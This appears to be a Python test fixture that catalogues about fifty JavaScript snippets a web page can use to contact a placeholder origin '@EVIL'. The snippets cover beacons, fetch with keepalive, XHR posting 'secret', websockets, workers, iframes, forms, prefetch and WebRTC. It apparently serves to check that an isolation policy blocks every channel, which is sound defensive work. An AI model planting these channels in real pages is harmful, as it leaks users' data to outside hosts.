"""Ways in which a page can speak to another origin: scripts, where @EVIL is that origin, @TCP and @UDP its ports."""

from __future__ import annotations


def in_worker(kind: str, script: str) -> str:
    return f"new {kind}(URL.createObjectURL(new Blob([`{script}`], {{type: 'text/javascript'}})))"


def element(tag: str, **attributes: str) -> str:
    """A script that puts an element on the page."""
    sets = "".join(f"e.setAttribute({name.rstrip('_')!r}, {value!r});" for name, value in attributes.items())
    return f"const e = document.createElement({tag!r}); {sets} document.body.append(e);"


CHANNELS = {
    "image": "new Image().src = '@EVIL/image'",
    "script": element("script", src="@EVIL/script"),
    "stylesheet": element("link", rel="stylesheet", href="@EVIL/css"),
    "background": "document.body.style.background = 'url(@EVIL/background)'",
    "font": "new FontFace('x', 'url(@EVIL/font)').load().catch(() => 0)",
    "video": element("video", src="@EVIL/video", preload="auto"),
    "object": element("object", data="@EVIL/object"),
    "embed": element("embed", src="@EVIL/embed"),
    "fetch": "fetch('@EVIL/fetch').catch(() => 0)",
    "fetch without CORS": "fetch('@EVIL/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "fetch that outlives": "fetch('@EVIL/fetch', {mode: 'no-cors', keepalive: true, method: 'POST'}).catch(() => 0)",
    "later fetch": "fetchLater('@EVIL/later', {activateAfter: 0})",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', '@EVIL/xhr'); x.send('secret')",
    "event source": "new EventSource('@EVIL/events')",
    "beacon": "navigator.sendBeacon('@EVIL/beacon', 'secret')",
    "frame": element("iframe", src="@EVIL/frame"),
    "frame in a frame": element("iframe", srcdoc="<iframe src='@EVIL/frame'></iframe>"),
    "sandboxed frame": element("iframe", sandbox="allow-scripts", srcdoc="<script>fetch('@EVIL/sandboxed')</script>"),
    "data frame": element("iframe", src="data:text/html,<img src='@EVIL/data'>"),
    "image redirect": "new Image().src = '/hop'",
    "fetch redirect": "fetch('/hop', {mode: 'no-cors'}).catch(() => 0)",
    "frame redirect": element("iframe", src="/hop"),
    "page redirect": "location.href = '/hop'",
    "page": "location.href = '@EVIL/page'",
    "meta refresh": element("meta", **{"http-equiv": "refresh", "content": "0;url=@EVIL/refresh"}),
    "websocket": "new WebSocket('@EVIL/socket'.replace('http', 'ws'))",
    "worker": in_worker("Worker", "fetch('@EVIL/worker').catch(() => 0)"),
    "worker websocket": in_worker("Worker", "new WebSocket('@EVIL/socket'.replace('http', 'ws'))"),
    "worker import": in_worker("Worker", "importScripts('@EVIL/import')"),
    "module": "import('@EVIL/module').catch(() => 0)",
    "shared worker": "new SharedWorker('/shared.js')",
    "service worker": "navigator.serviceWorker.register('/service.js')",
    "popup": "window.open('@EVIL/popup')",
    "popup that writes": "window.open('about:blank').document.write(`<img src='@EVIL/written'>`)",
    "download": element("a", href="@EVIL/download", download="x") + " e.click()",
    "ping": element("a", href="#here", ping="@EVIL/ping") + " e.click()",
    "form": element("form", action="@EVIL/form", method="post") + " e.submit()",
    "form in a frame": element("iframe", name="f") + element("form", action="@EVIL/form", method="post", target="f")
    .replace("const e", "const form").replace("e.set", "form.set").replace("(e)", "(form)") + " form.submit()",
    "prefetch": element("link", rel="prefetch", href="@EVIL/prefetch"),
    "preload": element("link", rel="preload", as_="image", href="@EVIL/preload"),
    "module preload": element("link", rel="modulepreload", href="@EVIL/modulepreload"),
    "preconnect": element("link", rel="preconnect", href="@EVIL"),
    "icon": element("link", rel="icon", href="@EVIL/icon"),
    "violation report": "location.href = '/reporting'",
    "speculation": (
        element("script", type="speculationrules").replace(
            "document.body", "e.text = JSON.stringify({prefetch: [{source: 'list', urls: ['@EVIL/speculation'], "
            "eagerness: 'immediate'}]}); document.body"
        )
    ),
    "stun": (
        "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:@UDP'}]});"
        "c.createDataChannel('x'); c.createOffer().then(offer => c.setLocalDescription(offer))"
    ),
    "turn over TCP": (
        "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:@TCP?transport=tcp', username: 'a', "
        "credential: 'b'}], iceTransportPolicy: 'relay'});"
        "c.createDataChannel('x'); c.createOffer().then(offer => c.setLocalDescription(offer))"
    ),
    "web transport": "new WebTransport('https://127.0.0.1:@UDP/').ready.catch(() => 0)",
}  # fmt: skip
